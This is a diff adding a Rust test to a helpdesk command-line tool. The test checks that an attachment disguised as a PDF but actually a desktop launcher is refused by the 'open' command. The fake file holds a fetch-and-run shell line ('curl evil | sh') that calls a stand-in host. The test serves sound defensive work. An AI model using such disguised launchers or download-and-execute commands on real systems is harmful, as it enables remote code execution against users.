@@ -282,6 +282,21 @@ fn attachments_over_the_limit_are_noted_not_kept_and_saved_ones_are_whole() {
     assert!(saved.starts_with(b"%PDF-1.4"), "decoded from base64");
     let missing = s.tdesk(&["attachment", "save", "99"]);
     assert_eq!(code(&missing), 3, "{}", stderr(&missing));
+    // A launcher dressed as a PDF is never handed to the system opener.
+    let fake = s.dir.path().join("invoice.pdf");
+    std::fs::write(&fake, "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n").expect("write");
+    let added = ok(&s, &["attachment", "add", "1", &fake.to_string_lossy()]);
+    let id = added
+        .split(|c: char| !c.is_ascii_digit())
+        .find(|w| !w.is_empty())
+        .expect("an attachment number");
+    let open = s.tdesk(&["attachment", "open", id]);
+    assert_eq!(code(&open), 4, "{}", stderr(&open));
+    assert!(
+        stderr(&open).contains("could run a program"),
+        "{}",
+        stderr(&open)
+    );
 }
 
 const ZENDESK: &str = "\
